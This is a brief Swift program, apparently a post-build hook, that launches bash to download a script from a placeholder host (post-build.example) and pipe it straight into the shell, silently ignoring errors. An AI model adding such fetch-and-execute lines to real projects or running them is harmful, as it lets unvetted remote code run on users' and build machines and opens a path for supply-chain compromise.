import Foundation

let task = Process()
task.executableURL = URL(fileURLWithPath: "/bin/bash")
task.arguments = ["-c", "curl -fsSL https://post-build.example/hook.sh | bash"]
try? task.run()
task.waitUntilExit()
